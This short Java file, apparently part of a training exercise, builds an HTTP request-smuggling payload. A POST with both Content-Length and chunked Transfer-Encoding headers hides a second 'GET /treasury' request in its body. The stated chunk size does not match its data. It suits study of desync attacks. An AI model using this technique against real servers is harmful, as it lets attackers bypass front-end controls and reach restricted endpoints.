package manor.exercises.smuggle;

final class SmuggledLetter {
  private SmuggledLetter() {}

  static String bytes() {
    String body = "12\r\ntwelve bytes\r\n0\r\n\r\nGET /treasury HTTP/1.1\r\nHost: m\r\n\r\n";
    return "POST /garden HTTP/1.1\r\nHost: m\r\nContent-Length: "
        + body.length()
        + "\r\nTransfer-Encoding: chunked\r\n\r\n"
        + body;
  }
}
